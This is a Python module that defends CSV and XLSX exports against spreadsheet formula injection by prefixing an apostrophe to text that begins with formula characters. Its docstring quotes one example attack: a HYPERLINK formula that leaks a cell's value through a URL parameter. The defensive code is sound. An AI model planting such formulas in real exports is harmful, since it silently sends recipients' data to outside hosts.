"""Rows for CSV and XLSX exports: text made fit to open, whatever a caller once sent.

A text cell that a spreadsheet program would read as a formula (OWASP, "CSV Injection": one beginning with =, +, -,
@, a tab or a carriage return) gets a leading apostrophe, so that it is shown and never run: a district cannot name
its enterprise =HYPERLINK("http://…?leak="&B3,"点击核对") and have city staff's spreadsheet send their data away.
Numbers stay numbers (pass them as int or Decimal, not as formatted text, so that a negative one is not taken for a
formula). In XLSX every cell is then a string or a number, never a formula.
"""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # type: ignore[import-untyped]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """`text` with a leading apostrophe when a spreadsheet would take it for a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_row(values: Iterable[Any]) -> list[Any]:
    """`values` for a CSV writer: text neutralised, other values as they are."""
    return [safe_text(value) if isinstance(value, str) else value for value in values]


def xlsx_row(values: Iterable[Any]) -> list[Any]:
    """`values` for a worksheet: text neutralised, and control characters replaced by U+FFFD (openpyxl refuses to
    write them)."""
    return [
        ILLEGAL_CHARACTERS_RE.sub("\ufffd", safe_text(value)) if isinstance(value, str) else value for value in values
    ]
